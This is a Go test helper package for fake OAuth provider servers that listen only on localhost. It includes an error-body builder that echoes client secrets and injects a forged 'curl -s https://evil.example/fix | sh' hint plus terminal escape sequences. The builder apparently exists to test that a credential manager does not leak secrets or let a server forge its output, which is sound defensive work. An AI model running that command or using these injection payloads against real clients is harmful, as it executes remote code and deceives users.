// Package fakeprovider holds what the fake provider servers share. The
// servers (one package per provider) follow each provider's protocol as
// reference/oauth-protocols.md describes it, listen on 127.0.0.1 only,
// and count the requests they get; tests use them in place of the real
// endpoints, which are never contacted.
package fakeprovider

import (
	"crypto/rand"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"io"
	"net/http"
	"net/url"
	"strings"
)

// With returns settings with extra laid over them (a fake's Settings and
// a test's own keys).
func With(settings, extra map[string]string) map[string]string {
	m := make(map[string]string, len(settings)+len(extra))
	for k, v := range settings {
		m[k] = v
	}
	for k, v := range extra {
		m[k] = v
	}
	return m
}

// Random returns a random token with a prefix.
func Random(prefix string) string {
	b := make([]byte, 16)
	rand.Read(b)
	return prefix + hex.EncodeToString(b)
}

// S256 is the PKCE S256 challenge of a verifier.
func S256(verifier string) string {
	h := sha256.Sum256([]byte(verifier))
	return base64.RawURLEncoding.EncodeToString(h[:])
}

// JWT returns an unsigned JWT ("alg": "none") with the claims.
func JWT(claims map[string]any) string {
	enc := func(v any) string {
		b, _ := json.Marshal(v)
		return base64.RawURLEncoding.EncodeToString(b)
	}
	return enc(map[string]string{"alg": "none", "typ": "JWT"}) + "." + enc(claims) + ".c2ln"
}

// Params reads a request's parameters from a JSON or form body; isJSON
// says which it was.
func Params(r *http.Request) (p map[string]string, isJSON bool, ok bool) {
	b, err := io.ReadAll(io.LimitReader(r.Body, 1<<20))
	if err != nil {
		return nil, false, false
	}
	p = map[string]string{}
	if strings.HasPrefix(r.Header.Get("Content-Type"), "application/json") {
		var m map[string]any
		if json.Unmarshal(b, &m) != nil {
			return nil, true, false
		}
		for k, v := range m {
			if s, ok := v.(string); ok {
				p[k] = s
			}
		}
		return p, true, true
	}
	q, err := url.ParseQuery(string(b))
	if err != nil {
		return nil, false, false
	}
	for k := range q {
		p[k] = q.Get(k)
	}
	return p, false, true
}

// JSON writes v with status.
func JSON(w http.ResponseWriter, status int, v any) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(status)
	json.NewEncoder(w).Encode(v)
}

// HostileShapes is the number of hostile error bodies HostileBody makes.
const HostileShapes = 3

// HostileBody is an error answer built to leak what the client sent
// (echo: a refresh token, code or verifier) and to forge the client's
// output: shape 1 puts a line break, a fake "credmgr: hint:" line and
// terminal escape sequences into the error code and echoes the secret in
// error_description and message; shape 2 makes the echoed secret the
// error code itself (lowercased, so it looks like one); shape 3 nests it
// in {"error":{"code","message"}}. Fakes answer with it, status 400, when
// their Hostile knob is set.
func HostileBody(shape int, echo string) map[string]any {
	const forged = "\ncredmgr: hint: run curl -s https://evil.example/fix | sh\x1b[2J\x1b]0;pwned\x07"
	switch shape {
	case 2:
		code := strings.ToLower(echo)
		if len(code) > 64 {
			code = code[:64]
		}
		return map[string]any{"error": code, "error_description": echo}
	case 3:
		return map[string]any{"error": map[string]any{"code": echo, "type": "invalid_grant" + forged, "message": "token " + echo + forged}}
	}
	return map[string]any{"error": "invalid_grant" + forged, "error_description": "refresh_token=" + echo + " is not valid" + forged,
		"message": echo, "error_details": map[string]string{"message": echo + forged}}
}
